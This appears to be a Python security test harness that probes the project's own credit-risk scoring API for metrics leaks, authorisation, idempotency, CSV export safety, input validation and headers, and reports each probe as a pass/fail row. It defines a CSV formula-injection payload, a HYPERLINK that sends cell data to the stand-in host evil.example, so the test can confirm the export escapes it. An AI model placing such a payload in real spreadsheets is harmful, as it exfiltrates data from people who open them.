"""An attacker's probes of the records, outcomes and metrics, on one real server with SQLite,
two API workers and keys with roles: each probe is a report row (what was tried, what must
hold, what was measured, met or not)."""

from __future__ import annotations

import gzip
import json
import os
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import requests

from credit_risk.contract import FIELDS
from training_export import dataset
from training_export.paths import REPO_ROOT

PREDICT = "/credit_score_prediction"
BATCH = PREDICT + "/batch"
FULL = {"name": "ops", "key": "ops-key", "roles": ["score", "review", "audit", "outcomes"]}
SCORER = {"name": "origination", "key": "origination-key", "roles": ["score"]}
KEYS = [FULL, SCORER]
REFRESH_S = 1.0
SCRAPE_MAX_AGE_S = 1.0
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'


class Row(NamedTuple):
    probe: str
    target: str
    measured: str
    met: bool


def server_env(database: Path) -> dict[str, str]:
    """The settings the probes attack: two keys, SQLite at `database`, two API workers, the
    realised figures refreshed and /metrics rendered at most every second (scrapes may ask
    far more often)."""
    return {
        "CREDIT_RISK_API_KEYS": json.dumps(KEYS),
        "CREDIT_RISK_RECORDS_URL": f"sqlite:///{database}",
        "CREDIT_RISK_API_WORKERS": "2",
        "CREDIT_RISK_FIGURES_REFRESH_S": str(REFRESH_S),
        "CREDIT_RISK_METRICS_MAX_AGE_S": str(SCRAPE_MAX_AGE_S),
    }


def _keyed(key: dict, **headers: str) -> dict[str, str]:
    return {"X-API-Key": key["key"], **headers}


class Attack:
    """The probes against one server (`url`) whose records are in `database`."""

    def __init__(self, url: str, database: Path) -> None:
        self.url, self.database = url, database
        self.session = requests.Session()
        self.statuses: Counter[int] = Counter()
        applicants = dataset.load()[list(FIELDS)].to_dict("records")
        answer = self.post(
            BATCH, {"applicants": applicants}, _keyed(FULL, **{"X-Request-ID": "all"})
        )
        # Each applicant's model prediction (good, bad) and decision (approve, refer, decline).
        self.answers = [(p["prediction"], p["decision"]) for p in answer.json()["predictions"]]

    def post(self, path: str, body: object, headers: dict[str, str]) -> requests.Response:
        response = self.session.post(self.url + path, json=body, headers=headers)
        self.statuses[response.status_code] += 1
        return response

    def metrics(self) -> str:
        """A scrape showing what came before it (a worker repeats its last rendering for
        `SCRAPE_MAX_AGE_S`)."""
        time.sleep(SCRAPE_MAX_AGE_S + 0.05)
        response = self.session.get(self.url + "/metrics")
        self.statuses[response.status_code] += 1
        return response.text

    def realised(self) -> list[str]:
        """The realised series of a scrape taken after a background refresh has run (one
        session: its connection stays with one API worker)."""
        time.sleep(REFRESH_S + 0.2)
        self.metrics()
        time.sleep(0.5)
        return sorted(line for line in self.metrics().splitlines() if "realised" in line)

    def outcome(self, position: int, repaid: bool, **extra: object) -> requests.Response:
        body = {"request_id": "all", "position": position, "repaid": repaid, **extra}
        return self.post("/outcomes", body, _keyed(FULL))

    def positions(self, answered: str) -> list[int]:
        """The applicants whose prediction or decision was `answered`."""
        return [i for i, answer in enumerate(self.answers) if answered in answer]


def metric_labels(attack: Attack) -> Row:
    before = attack.metrics()
    for i in range(300):
        attack.session.get(f"{attack.url}/junk-{i}")
        attack.session.get(f"{attack.url}/decisions/secret-id-{i}", headers=_keyed(FULL))
    attack.session.get(f"{attack.url}/decisions/%00nul", headers=_keyed(FULL))
    after = attack.metrics()
    leaked = [w for w in ("junk", "secret-id", "\x00") if w in after]
    return Row(
        "/metrics labels: 300 keyless `GET /junk-N`, 300 `GET /decisions/secret-id-N`, "
        "`/decisions/%00nul`",
        "no path or request id in a label, no NUL; the text grows < 10 kB",
        f"{len(before) / 1000:.0f} kB -> {len(after) / 1000:.0f} kB; leaked: {leaked or 'none'}",
        not leaked and len(after) - len(before) < 10_000,
    )


def outcome_owner(attack: Attack) -> Row:
    approved, declined = attack.positions("approve"), attack.positions("bad")
    body = {"request_id": "all", "position": approved[0], "repaid": False}
    foreign = attack.post("/outcomes", body, _keyed(SCORER)).status_code
    decline = attack.outcome(declined[0], True)
    first = attack.outcome(approved[0], True).status_code
    silent = attack.outcome(approved[0], False).status_code
    corrected = attack.outcome(approved[0], False, correction=True).status_code
    with sqlite3.connect(attack.database) as db:
        (old, new, by), *_ = db.execute(
            "SELECT old_repaid, repaid, corrected_by FROM outcome_corrections"
        ).fetchall()
    recorded = (bool(old), bool(new), by) == (True, False, FULL["name"])
    return Row(
        "outcomes: a score-only key posts one; an outcome for a decline; a second outcome "
        "without and with `correction`",
        "403; 409 'no credit was extended'; 409; 200 with who, when and the old value recorded",
        f"{foreign}; {decline.status_code} ({decline.json().get('error', '')[:40]}…); {silent}; "
        f"{corrected}, recorded {old=} {new=} by {by!r}",
        foreign == 403
        and decline.status_code == 409
        and "no credit was extended" in decline.text
        and (first, silent, corrected) == (200, 409, 200)
        and recorded,
    )


def outcome_leak(attack: Attack) -> Row:
    approved = attack.positions("approve")[1:]
    before = attack.realised()
    attack.outcome(approved[0], True)
    one = attack.realised()
    for position in approved[1:99]:
        attack.outcome(position, True)
    hundred = attack.realised()
    return Row(
        "/metrics after one outcome (keyless realised figures before and after)",
        "unchanged after 1 outcome event; they move with a whole block of 100",
        f"{len(before)} realised lines; after 1 outcome: "
        f"{'unchanged' if one == before else 'CHANGED'}; after 100 events: "
        f"{'changed' if hundred != before else 'unchanged'}",
        one == before and hundred != before,
    )


def request_ids(attack: Attack) -> Row:
    applicant = dataset.load()[list(FIELDS)].iloc[0].to_dict()
    headers = _keyed(FULL, **{"X-Request-ID": "probe-retry"})
    first = attack.post(PREDICT, applicant, headers)
    retry = attack.post(PREDICT, applicant, headers)
    other_body = attack.post(PREDICT, {**applicant, "Age": 51}, headers).status_code
    other_key = attack.post(PREDICT, applicant, {**headers, "X-API-Key": SCORER["key"]}).status_code
    with sqlite3.connect(attack.database) as db:
        (rows,) = db.execute(
            "SELECT count(*) FROM decisions WHERE request_id = 'probe-retry'"
        ).fetchone()
    same = retry.status_code == 200 and retry.json() == first.json()
    return Row(
        "`X-Request-ID` reused: a retry; another body; another key",
        "the first answer again and one record; 409; 409",
        f"same answer: {same}, {rows} record(s); {other_body}; {other_key}",
        same and rows == 1 and other_body == other_key == 409,
    )


def _export(database: Path, out: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "serving.records.admin", "export", str(out), *args],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        env={**os.environ, "CREDIT_RISK_RECORDS_URL": f"sqlite:///{database}"},
        timeout=120,
    )


def records_export(attack: Attack) -> Row:
    applicant = dataset.load()[list(FIELDS)].iloc[1].to_dict()
    attack.post(PREDICT, applicant, _keyed(FULL, **{"X-Application-ID": FORMULA}))
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        out = folder / "records.csv"
        done = _export(attack.database, out)
        text = out.read_text()
        escaped = f"'{FORMULA}".replace('"', '""') in text and f",{FORMULA}" not in text
        mode = out.stat().st_mode & 0o777
        victim = folder / "victim"
        victim.write_text("kept")
        (folder / "link.csv").symlink_to(victim)
        link = _export(attack.database, folder / "link.csv")
        missing = _export(attack.database, folder / "no-such-folder" / "r.csv")
        backwards = _export(attack.database, out, "--since", "2026-12-02", "--until", "2026-12-01")
        database_mode = attack.database.stat().st_mode & 0o777
        target = victim.read_text()
    refused = [
        r.returncode != 0 and len(r.stderr.strip().splitlines()) == 1
        for r in (link, missing, backwards)
    ]
    return Row(
        f"records export: an `X-Application-ID` of `{FORMULA}`; `OUT` a symlink; `OUT` in a "
        "missing folder; `SINCE` after `UNTIL`",
        "the cell escaped; files 0600; each refusal one line, exit != 0, the symlink's target "
        "untouched",
        f"exit {done.returncode}, escaped: {escaped}; export {mode:o}, database "
        f"{database_mode:o}; refused in one line: {refused}, target {target!r}",
        done.returncode == 0
        and escaped
        and target == "kept"
        and mode == database_mode == 0o600
        and all(refused),
    )


def _p99_ms(url: str, body: dict, seconds: float) -> float:
    session, durations = requests.Session(), []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        started = time.perf_counter()
        session.post(url + PREDICT, json=body, headers=_keyed(SCORER))
        durations.append(time.perf_counter() - started)
    return 1000 * statistics.quantiles(durations, n=100)[98]


def scrape_cost(attack: Attack) -> Row:
    labelled = len(attack.positions("approve"))
    for position in attack.positions("approve")[100:]:
        attack.outcome(position, True)
    rendered_ms, repeated_ms = [], []
    for _ in range(5):
        time.sleep(SCRAPE_MAX_AGE_S + 0.05)  # the next scrape renders, the one after repeats it
        for times in (rendered_ms, repeated_ms):
            started = time.perf_counter()
            attack.session.get(attack.url + "/metrics")
            times.append(1000 * (time.perf_counter() - started))
    applicant = dataset.load()[list(FIELDS)].iloc[2].to_dict()
    quiet = _p99_ms(attack.url, applicant, 10)
    rounds = [  # alternated, 3 rounds, the medians: the machine is noisy
        [_p99_ms_with_loops(attack.url, applicant, path) for path in ("/livez", "/metrics")]
        for _ in range(3)
    ]
    probed, scraped = (statistics.median(column) for column in zip(*rounds, strict=True))
    return Row(
        f"keyless scrapes at {labelled} labelled decisions, refreshed at most every "
        f"{REFRESH_S:.0f} s, rendered at most every {SCRAPE_MAX_AGE_S:.0f} s; one client's "
        "scoring p99 alone, with 4 `/livez` loops and with 4 scrape loops (medians of 3)",
        "a scrape is O(1) in the history (its cost at 1 M labelled rows: "
        "`python -m benchmarks.realised_metrics`); scrape loops cost scoring no more than "
        "loops of the cheapest keyless request (p99 < 1.3x the `/livez` loops')",
        f"scrape p50 rendered {statistics.median(rendered_ms):.1f} ms, repeated "
        f"{statistics.median(repeated_ms):.1f} ms; p99 {quiet:.1f} alone, {probed:.1f} with "
        f"/livez loops, {scraped:.1f} ms with scrape loops",
        scraped < 1.3 * probed,
    )


def _p99_ms_with_loops(url: str, applicant: dict, path: str) -> float:
    """`_p99_ms` while 4 keyless clients ask for `path` as fast as they are answered."""
    stop = threading.Event()

    def loop() -> None:
        session = requests.Session()
        while not stop.is_set():
            session.get(url + path)

    loops = [threading.Thread(target=loop) for _ in range(4)]
    for thread in loops:
        thread.start()
    try:
        return _p99_ms(url, applicant, 10)
    finally:
        stop.set()
        for thread in loops:
            thread.join()


def _raw(url: str, request: bytes) -> bytes:
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(request)
        return sock.recv(65536)


def contract(attack: Attack) -> Row:
    applicant = dataset.load()[list(FIELDS)].iloc[3].to_dict()
    snake = {name.lower().replace(" ", "_"): value for name, value in applicant.items()}
    keyed = _keyed(FULL)
    outcome = {"request_id": "all", "position": 0, "repaid": True}
    duplicate = b'{"request_id": "all", "repaid": true, "repaid": false}'
    checks: dict[str, int] = {
        "snake_case": attack.post(PREDICT, snake, keyed).status_code,
        "extra batch key": attack.post(
            BATCH, {"applicants": [applicant], "x": 1}, keyed
        ).status_code,
        **{
            f"repaid {value!r}": attack.post(
                "/outcomes", {**outcome, "repaid": value}, keyed
            ).status_code
            for value in ("no", 1, "off")
        },
        "position true": attack.post("/outcomes", {**outcome, "position": True}, keyed).status_code,
        "duplicate key": attack.session.post(
            attack.url + "/outcomes",
            data=duplicate,
            headers={**keyed, "Content-Type": "application/json"},
        ).status_code,
        "gzip": attack.session.post(
            attack.url + "/outcomes",
            data=gzip.compress(json.dumps(outcome).encode()),
            headers={**keyed, "Content-Type": "application/json", "Content-Encoding": "gzip"},
        ).status_code,
    }
    huge = _raw(
        attack.url,
        f"POST /outcomes HTTP/1.1\r\nHost: x\r\nX-API-Key: {FULL['key']}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {50 * 2**20}\r\n\r\n{{".encode(),
    )
    checks["50 MB"] = int(huge.split()[1])
    header = attack.post(PREDICT, applicant, _keyed(FULL, **{"X-Application-ID": "é"}))
    checks["X-Application-ID"] = header.status_code
    located = header.status_code == 422 and header.json()["detail"][0]["loc"] == [
        "X-Application-ID"
    ]
    expected = {name: 422 for name in checks} | {"gzip": 415, "50 MB": 413}
    return Row(
        'contract: snake_case names, an extra batch key, `repaid` "no" / 1 / "off", '
        "`position: true`, a duplicate key, gzip, 50 MB on /outcomes, a bad `X-Application-ID`",
        "422 each, gzip 415, 50 MB 413 at once; the header named in `loc`",
        ", ".join(f"{name} {status}" for name, status in checks.items())
        + f"; loc named: {located}",
        checks == expected and located,
    )


def headers_and_times(attack: Attack) -> Row:
    ui = attack.session.get(attack.url + "/ui").headers
    record = attack.session.get(attack.url + "/decisions/probe-retry", headers=_keyed(FULL))
    decided_at = record.json()[0]["decided_at"]
    csp, frame = ui.get("Content-Security-Policy", ""), ui.get("X-Frame-Options", "")
    utc = decided_at.endswith(("+00:00", "Z"))
    return Row(
        "`/ui` headers; a record's `decided_at` on SQLite",
        "a CSP and `X-Frame-Options`; UTC with its offset",
        f"CSP {'set' if csp else 'missing'}, X-Frame-Options {frame or 'missing'}; {decided_at}",
        bool(csp) and frame == "DENY" and utc,
    )


PROBES: tuple[Callable[[Attack], Row], ...] = (
    metric_labels,
    outcome_owner,
    outcome_leak,
    request_ids,
    records_export,
    contract,
    headers_and_times,
    scrape_cost,
)


def run(
    url: str, database: Path, probes: tuple[Callable[[Attack], Row], ...] = PROBES
) -> list[Row]:
    """The probes in turn, then one row saying none of them met a 5xx."""
    attack = Attack(url, database)
    rows = [probe(attack) for probe in probes]
    errors = sum(n for status, n in attack.statuses.items() if status >= 500)
    rows.append(
        Row(
            "all of the above",
            "no 5xx",
            f"{sum(attack.statuses.values())} answers: {dict(sorted(attack.statuses.items()))}",
            errors == 0,
        )
    )
    return rows
